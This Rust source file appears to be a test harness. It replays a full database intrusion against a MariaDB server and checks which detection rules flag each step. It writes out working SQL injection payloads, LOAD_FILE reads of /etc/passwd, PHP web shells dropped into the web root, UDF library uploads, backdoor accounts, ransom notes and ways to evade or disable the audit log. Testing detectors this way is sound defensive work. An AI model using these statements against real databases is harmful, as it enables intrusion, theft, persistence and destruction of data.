//! The attack, step by step, with what each step must be found by.

use std::path::Path;

use super::client::{Account, Ask, Programs, texts};
use super::server::Server;
use super::traffic::{APP, DBA, MONITOR};

/// Something the intruder does in a connection of its own.
pub struct Step {
    pub name: &'static str,
    account: Account,
    database: &'static str,
    asks: Vec<Ask>,
    /// The server's answer to each request; 0 is success.
    errors: &'static [u32],
    /// The rules that match the records of this connection, but for those of sessions.
    pub rules: &'static [&'static str],
}

/// A step that was done.
pub struct Done {
    pub step: Step,
    pub connection: u64,
}

fn step(
    name: &'static str,
    (account, database): (Account, &'static str),
    statements: &[&str],
    errors: &'static [u32],
    rules: &'static [&'static str],
) -> Step {
    Step { name, account, database, asks: texts(statements), errors, rules }
}

/// Logins that fail, with the account that the record must name.
const REFUSED: [(Account, &str); 6] = [
    (Account { user: "admin", password: "admin" }, ""),
    (Account { user: "dba", password: "dba" }, ""),
    (Account { user: "dba", password: "123456" }, ""),
    (Account { user: "dba", password: "" }, ""),
    (Account { user: "oracle", password: "oracle" }, ""),
    // Its password is right, the database is not its own.
    (APP, "mysql"),
];

/// The accounts of the records that must be tagged as failed logins.
pub fn refused(server: &Server, programs: &Programs) -> Vec<&'static str> {
    for (account, database) in REFUSED {
        let session = programs.session(server, account, database, &texts(&["SELECT 1"]));
        assert!(session.connection.is_none(), "{} was let in", account.user);
    }
    REFUSED.iter().map(|(account, _)| account.user).collect()
}

/// Statements that the shop sends for somebody who puts SQL into its forms.
fn injection() -> Vec<Step> {
    let shop = (APP, "shop");
    vec![
        step(
            "a quote too many",
            shop,
            &["SELECT id, name FROM items WHERE name = '''"],
            &[1064],
            &["sql_error"],
        ),
        step(
            "a condition that always holds",
            shop,
            &["SELECT id, name FROM items WHERE name = '' OR '1'='1'"],
            &[0],
            &["sqli_tautology"],
        ),
        step(
            "the same, and the rest cut off",
            shop,
            &["SELECT id FROM customers WHERE email = 'x' OR 1=1-- -' AND password_hash = 'y'"],
            &[0],
            &["sqli_tautology"],
        ),
        step(
            "how many columns there are",
            shop,
            &["SELECT id, name FROM items WHERE id = 1 ORDER BY 9"],
            &[1054],
            &["sql_error"],
        ),
        step(
            "another table's rows",
            shop,
            &[
                "SELECT id, name FROM items WHERE name = 'x' UNION SELECT 1, UNHEX(HEX(password_hash)) FROM customers-- -'",
            ],
            &[0],
            &["sqli_union"],
        ),
        step(
            "disguised",
            shop,
            &[
                "SELECT id, name FROM items WHERE id = 1/**/UnIoN/**/aLL/**/SeLeCt/**/1,/*!50000version()*/",
            ],
            &[0],
            &["sqli_union"],
        ),
        step(
            "the tables",
            shop,
            &[
                "SELECT id, name FROM items WHERE id = -1 UNION SELECT 1, GROUP_CONCAT(table_name) FROM information_schema.tables",
            ],
            &[0],
            &["sqli_union"],
        ),
        step(
            "by errors",
            shop,
            &[
                "SELECT id FROM items WHERE id = 1 AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT version())))",
            ],
            &[1105],
            &["sql_error", "sqli_error"],
        ),
        step(
            "by time",
            shop,
            &[
                "SELECT id FROM items WHERE id = 1 AND IF(ASCII(SUBSTR(user(), 1, 1)) > 64, SLEEP(0.02), 0)",
            ],
            &[0],
            &["sqli_time"],
        ),
        step(
            "by work",
            shop,
            &["SELECT id FROM items WHERE id = 1 AND BENCHMARK(1000, MD5(1))"],
            &[0],
            &["sqli_time"],
        ),
        step(
            "a second statement, refused",
            shop,
            &["SELECT id FROM items WHERE id = 1; DROP TABLE orders"],
            &[1064],
            &["drop_table", "sql_error", "sqli_stacked"],
        ),
        Step {
            name: "a second statement, where the shop allows several",
            account: APP,
            database: "shop",
            asks: vec![
                Ask::Several,
                Ask::Text(
                    "SELECT id FROM items WHERE id = 1; DELETE FROM sessions; SELECT 2".to_owned(),
                ),
            ],
            errors: &[0, 0],
            // The server logs each by itself.
            rules: &["drop_table"],
        },
        step(
            "a file of the server",
            shop,
            &["SELECT id, name FROM items WHERE id = 1 UNION SELECT 1, LOAD_FILE('/etc/passwd')"],
            &[0],
            &["load_file", "sqli_union"],
        ),
    ]
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// Looking around with an administrator's password.
fn looking() -> Vec<Step> {
    let dba = (DBA, "");
    vec![
        step(
            "where files may be written",
            dba,
            &["SELECT @@version, @@secure_file_priv, @@plugin_dir"],
            &[0],
            &["secure_file_priv"],
        ),
        step(
            "the same, asked otherwise",
            dba,
            &["SHOW VARIABLES LIKE 'secure%'"],
            &[0],
            &["secure_file_priv"],
        ),
        step(
            "where passwords are",
            dba,
            &[
                "SELECT table_schema, table_name, column_name FROM information_schema.columns WHERE column_name LIKE '%pass%'",
            ],
            &[0],
            &["schema_recon"],
        ),
        step(
            "who may what",
            dba,
            &["SELECT grantee, privilege_type FROM information_schema.user_privileges"],
            &[0],
            &["schema_recon"],
        ),
        step(
            "hashes of passwords",
            dba,
            &["SELECT user, host, authentication_string FROM mysql.user"],
            &[0],
            &["grant_table_read"],
        ),
        step(
            "the same, where MariaDB keeps them",
            dba,
            &["SELECT * FROM mysql.`global_priv`"],
            &[0],
            &["bulk_read", "grant_table_read"],
        ),
        step("all customers", (DBA, "shop"), &["SELECT * FROM customers"], &[0], &["bulk_read"]),
    ]
}

/// Files that the server reads and writes.
fn files(server: &Server) -> Vec<Step> {
    let dba = (DBA, "shop");
    let web = server.text("www/html");
    let php = "<?php system($_GET[\"c\"]); ?>";
    let one = |name, sql: String, errors, rules| step(name, dba, &[&sql], errors, rules);
    vec![
        one("a file is read", "SELECT LOAD_FILE('/etc/hostname')".to_owned(), &[0], &["load_file"]),
        one(
            "its name in digits",
            format!("SELECT LOAD_FILE(0x{})", hex(b"/etc/passwd")),
            &[0],
            &["load_file"],
        ),
        one(
            "a file becomes rows",
            "LOAD DATA INFILE '/etc/hostname' INTO TABLE posts (content)".to_owned(),
            &[0],
            &["load_data"],
        ),
        one(
            "a web shell",
            format!("SELECT '{php}' INTO OUTFILE '{web}/s.php'"),
            &[0],
            &["outfile", "outfile_script", "outfile_sensitive_path"],
        ),
        one(
            "its bytes in digits",
            format!("SELECT 0x{} INTO DUMPFILE '{web}/h.phtml'", hex(php.as_bytes())),
            &[0],
            &["outfile", "outfile_script", "outfile_sensitive_path"],
        ),
        one(
            "between the lines of another file",
            format!(
                "SELECT 1 INTO OUTFILE '{web}/l.txt' LINES TERMINATED BY 0x{}",
                hex(php.as_bytes())
            ),
            &[0],
            &["outfile", "outfile_script", "outfile_sensitive_path"],
        ),
        one(
            "put together from parts",
            format!("EXECUTE IMMEDIATE CONCAT('SELECT ''x'' INTO OUT', 'FILE ''{web}/i.php''')"),
            &[0],
            &["outfile", "outfile_script", "outfile_sensitive_path"],
        ),
        Step {
            name: "its content as a value",
            account: DBA,
            database: "shop",
            asks: vec![
                Ask::Text(format!("PREPARE w FROM 'SELECT ? INTO DUMPFILE ''{web}/v.jsp'''")),
                Ask::Text(format!("SET @content = '{php}'")),
                Ask::Text("EXECUTE w USING @content".to_owned()),
            ],
            errors: &[0, 0, 0],
            rules: &["outfile", "outfile_script", "outfile_sensitive_path"],
        },
        one(
            "where the server may not",
            "SELECT '* * * * * root id' INTO OUTFILE '/nowhere/etc/cron.d/x'".to_owned(),
            &[1290],
            &["outfile", "outfile_sensitive_path"],
        ),
        one(
            "customers into a file",
            format!("SELECT * FROM customers INTO OUTFILE '{}'", server.text("tmp/c.csv")),
            &[0],
            &["outfile"],
        ),
    ]
}

/// A library for the server, and functions out of it.
fn functions(server: &Server, library: &Path) -> Vec<Step> {
    let bytes = hex(&std::fs::read(library).expect("the library"));
    let dba = (DBA, "shop");
    let plugins = server.text("plugin");
    let written = format!("SELECT 0x{bytes} INTO DUMPFILE '{plugins}/helper.so'");
    let stored = format!("INSERT INTO parts VALUES (0x{bytes})");
    let collected =
        format!("SELECT GROUP_CONCAT(part) FROM parts INTO DUMPFILE '{plugins}/parts.so'");
    // `text_truncated` takes every server's limit to be the usual one, 1024 bytes.
    vec![
        step(
            "a library in one statement",
            dba,
            &[&written],
            &[0],
            &["dumpfile_library", "executable_content", "outfile", "text_truncated"],
        ),
        step(
            "a library by a table",
            dba,
            &["CREATE TABLE parts (part LONGBLOB)", &stored, &collected, "DROP TABLE parts"],
            &[0, 0, 0, 0],
            &["drop_table", "dumpfile_library", "executable_content", "outfile", "text_truncated"],
        ),
        step(
            "a function that is not there",
            dba,
            &["CREATE FUNCTION helper RETURNS STRING SONAME 'nosuch.so'"],
            &[1126],
            &["udf_create"],
        ),
        step(
            "a function of a known name",
            dba,
            &["CREATE FUNCTION sys_eval RETURNS INTEGER SONAME 'helper.so'"],
            &[0],
            &["udf_create", "udf_known"],
        ),
        step("it is called", dba, &["SELECT sys_eval('id')"], &[0], &["udf_known"]),
        step(
            "a function of a harmless name",
            dba,
            &[
                "create or replace\n\tfunction /* nothing */ grow returns integer soname 'parts.so'",
                "SELECT grow()",
            ],
            &[0, 0],
            &["udf_create"],
        ),
        step(
            "by the table of functions",
            dba,
            &["INSERT INTO mysql.func VALUES ('shrink', 2, 'helper.so', 'function')"],
            &[0],
            &["udf_table_write"],
        ),
        step("as a plug-in", dba, &["INSTALL SONAME 'helper'"], &[1127], &["plugin_install"]),
    ]
}

/// Logs that become scripts.
fn logs(server: &Server) -> Vec<Step> {
    let dba = (DBA, "");
    let web = server.text("www/html");
    let general = format!("SET GLOBAL general_log_file = '{web}/g.php'");
    let slow = format!("SET GLOBAL slow_query_log_file = '{web}/s2.php', slow_query_log = ON");
    vec![
        step(
            "the log of statements in a script",
            dba,
            &[&general],
            &[0],
            &["log_file_redirect", "log_file_script"],
        ),
        step(
            "it is switched on and fed",
            dba,
            &[
                "SET GLOBAL general_log = ON",
                "SELECT '<?php system($_GET[1]); ?>'",
                "SET GLOBAL general_log = OFF",
            ],
            &[0, 0, 0],
            &["general_log_toggle"],
        ),
        step(
            "the log of slow ones",
            dba,
            &[&slow, "SET GLOBAL slow_query_log = OFF"],
            &[0, 0],
            &["general_log_toggle", "log_file_redirect", "log_file_script"],
        ),
    ]
}

/// Accounts, rights, and ways back in.
fn staying() -> Vec<Step> {
    let dba = (DBA, "shop");
    vec![
        step(
            "an account",
            dba,
            &["CREATE USER 'backdoor'@'%' IDENTIFIED BY 'x'"],
            &[0],
            &["account_created"],
        ),
        step(
            "every right",
            dba,
            &["GRANT ALL PRIVILEGES ON *.* TO 'backdoor'@'%' WITH GRANT OPTION"],
            &[0],
            &["grant_powerful"],
        ),
        step(
            "the right to write files",
            dba,
            &["GRANT FILE ON *.* TO 'app'@'127.0.0.1'"],
            &[0],
            &["grant_powerful"],
        ),
        step(
            "an account and its rights at once",
            dba,
            &["GRANT SUPER ON *.* TO 'second'@'%' IDENTIFIED BY 'y'"],
            &[0],
            &["account_created", "grant_powerful"],
        ),
        step(
            "an account without a name",
            dba,
            &["CREATE USER ''@'192.0.2.1'"],
            &[0],
            &["account_anonymous", "account_created"],
        ),
        step(
            "a password",
            dba,
            &["SET PASSWORD FOR 'backup'@'127.0.0.1' = PASSWORD('z')"],
            &[0],
            &["password_changed"],
        ),
        step(
            "root's password",
            dba,
            &["ALTER USER 'root'@'localhost' IDENTIFIED BY ''"],
            &[0],
            &["password_changed", "root_changed"],
        ),
        step(
            "rights by their table",
            dba,
            &[
                "UPDATE mysql.global_priv SET priv = JSON_SET(priv, '$.access', 1073741823) WHERE user = 'app'",
            ],
            &[0],
            &["grant_table_write"],
        ),
        step("an account goes", dba, &["DROP USER 'second'@'%'"], &[0], &["account_removed"]),
        step(
            "an event",
            dba,
            &[
                "CREATE EVENT nightly ON SCHEDULE EVERY 1 DAY DO DELETE FROM sessions WHERE seen < 0",
            ],
            &[0],
            &["event_created"],
        ),
        step(
            "a trigger",
            dba,
            &["CREATE TRIGGER copy AFTER INSERT ON orders FOR EACH ROW SET @last = NEW.id"],
            &[0],
            &["trigger_created"],
        ),
        step(
            "a statement of every session",
            dba,
            &["SET GLOBAL init_connect = 'SET @seen = 1'", "SET GLOBAL init_connect = ''"],
            &[0, 0],
            &["init_connect"],
        ),
        step(
            "another primary",
            dba,
            &[
                "CHANGE MASTER TO MASTER_HOST = '192.0.2.9', MASTER_USER = 'r', MASTER_PASSWORD = 's'",
            ],
            &[0],
            &["replication_changed"],
        ),
        step(
            "files of clients",
            dba,
            &["SET GLOBAL local_infile = ON", "SET GLOBAL local_infile = OFF"],
            &[0, 0],
            &["local_infile_enabled"],
        ),
        Step {
            name: "another account in the same connection",
            account: DBA,
            database: "",
            asks: vec![Ask::Become(MONITOR), Ask::Become(Account { user: "nobody", password: "" })],
            errors: &[0, 1045],
            rules: &["change_user", "login_failed"],
        },
    ]
}

/// What is left when they are done.
fn destruction() -> Vec<Step> {
    let dba = (DBA, "shop");
    vec![
        step(
            "nothing for the replicas",
            dba,
            &["SET sql_log_bin = 0", "SET sql_log_bin = 1"],
            &[0, 0],
            &["binlog_session_off"],
        ),
        step("rows of a table", dba, &["TRUNCATE TABLE order_lines"], &[0], &["drop_table"]),
        step("a table", dba, &["DROP TABLE order_lines"], &[0], &["drop_table"]),
        step("a database", dba, &["DROP DATABASE shop_restored"], &[0], &["drop_database"]),
        step(
            "a note",
            dba,
            &[
                "CREATE TABLE PLEASE_READ_ME_VVV (note TEXT)",
                "INSERT INTO PLEASE_READ_ME_VVV VALUES ('All your data is backed up. Pay 0.03 BTC to recover it.')",
            ],
            &[0, 0],
            &["ransom_note"],
        ),
        step(
            "a note in a table of any name",
            dba,
            &[
                "CREATE TABLE info (t TEXT)",
                "INSERT INTO info VALUES ('To recover your lost databases send 0.1 Bitcoin')",
            ],
            &[0, 0],
            &["ransom_note"],
        ),
        step("the way back", dba, &["PURGE BINARY LOGS BEFORE NOW()"], &[0], &["binlog_purged"]),
        step("somebody's session", dba, &["KILL 999999"], &[1094], &["kill"]),
        step(
            "the server, without the right to",
            (MONITOR, ""),
            &["SHUTDOWN"],
            &[1227],
            &["shutdown"],
        ),
    ]
}

/// The audit log itself, its end last.
fn tampering(server: &Server) -> Vec<Step> {
    let dba = (DBA, "");
    let away = format!("SET GLOBAL server_audit_file_path = '{}'", server.text("www/html/a.php"));
    let back = format!("SET GLOBAL server_audit_file_path = '{}'", server.text("server_audit.log"));
    vec![
        step(
            "an account is left out",
            dba,
            &[
                "SET GLOBAL server_audit_excl_users = 'backdoor'",
                "SET GLOBAL server_audit_excl_users = ''",
            ],
            &[0, 0],
            &["audit_weakened"],
        ),
        step(
            "statements are cut",
            dba,
            &[
                "SET GLOBAL server_audit_query_log_limit = 16",
                "SELECT 'what it cuts'",
                "SET GLOBAL server_audit_query_log_limit = 65536",
            ],
            &[0, 0, 0],
            &["audit_weakened", "statement_cut"],
        ),
        // Cut at the usual limit; an escape of two bytes that would not fit is left out as a whole.
        step(
            "what matters is behind the limit",
            dba,
            &[
                "SET GLOBAL server_audit_query_log_limit = 1024",
                &format!("SELECT 1 /* {} */, LOAD_FILE('/etc/hostname')", "x".repeat(2000)),
                &format!("SELECT 1 /* {}'' */, LOAD_FILE('/etc/hostname')", "x".repeat(1011)),
                "SET GLOBAL server_audit_query_log_limit = 65536",
            ],
            &[0, 0, 0, 0],
            &["audit_weakened", "text_truncated"],
        ),
        // A change of the events is judged by the new ones, so it is not logged itself, nor is the
        // function. Only that it is taken back is.
        step(
            "kinds of statements are left out",
            dba,
            &[
                "SET GLOBAL server_audit_events = 'CONNECT,QUERY_DDL'",
                "CREATE FUNCTION unseen RETURNS INTEGER SONAME 'helper.so'",
                "SET GLOBAL server_audit_events = ''",
            ],
            &[0, 1127, 0],
            &["audit_weakened"],
        ),
        step(
            "the audit log in a script",
            dba,
            &[&away, "SELECT '<?php unseen(); ?>'", &back],
            &[0, 0, 0],
            &["log_file_redirect", "log_file_script"],
        ),
        step(
            "the audit log, removed",
            (MONITOR, ""),
            &["UNINSTALL PLUGIN server_audit"],
            &[1142],
            &["audit_disabled", "plugin_install", "sql_error"],
        ),
        step(
            "the audit log, switched off",
            dba,
            &["SET GLOBAL server_audit_logging = OFF", "SELECT 'unseen'"],
            &[0, 0],
            &["audit_disabled"],
        ),
    ]
}

/// Does it all; the last step ends the log.
pub fn attack(server: &Server, programs: &Programs) -> Vec<Done> {
    let steps = [
        injection(),
        looking(),
        files(server),
        functions(server, &programs.library),
        logs(server),
        staying(),
        destruction(),
        tampering(server),
    ];
    let do_it = |step: Step| {
        let session = programs.session(server, step.account, step.database, &step.asks);
        let connection = session.connection.unwrap_or_else(|| panic!("{}: refused", step.name));
        assert_eq!(session.errors, step.errors, "{}: what the server said", step.name);
        Done { step, connection }
    };
    steps.into_iter().flatten().map(do_it).collect()
}
